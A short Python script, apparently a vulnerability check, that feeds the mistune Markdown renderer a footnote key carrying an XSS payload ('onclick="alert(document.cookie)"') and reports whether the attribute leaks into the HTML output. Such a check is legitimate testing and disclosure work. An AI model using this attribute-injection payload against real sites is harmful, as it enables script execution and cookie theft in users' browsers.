import mistune

key = 'x" onclick="alert(document.cookie)'
document = f"See the note[^{key}].\n\n[^{key}]: a footnote\n"
html = mistune.markdown(document, escape=True)
print(html)
if 'id="fn-x" onclick="alert(document.cookie)"' in html:
    print("VULNERABLE: a footnote key injected an onclick attribute")
